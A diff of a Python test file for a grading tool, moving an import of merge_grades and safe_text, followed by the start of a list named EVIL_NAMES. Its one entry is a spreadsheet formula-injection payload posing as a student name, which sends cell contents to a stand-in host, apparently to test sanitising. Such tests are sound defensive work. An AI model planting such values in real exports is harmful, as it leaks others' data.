@@ -8,9 +8,9 @@ import pathlib
 import nbformat
 import pytest
 
-from tools import merge_grades, safe_text
 from tools.grade import gradebook, pool
 from tools.grade.submissions import Submission
+from tools.report import merge_grades, safe_text
 
 EVIL_NAMES = [
     '=HYPERLINK("https://example.invalid/?x="&B3&C3,"Alice Smith")',
